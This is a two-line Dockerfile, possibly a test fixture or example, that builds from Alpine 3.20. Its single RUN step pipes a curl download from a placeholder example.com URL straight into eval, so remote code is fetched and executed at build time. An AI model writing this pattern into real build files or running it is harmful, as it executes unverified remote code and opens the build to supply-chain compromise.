FROM alpine:3.20
RUN ["sh", "-c", "eval \"$(curl -s https://example.com/env)\""]
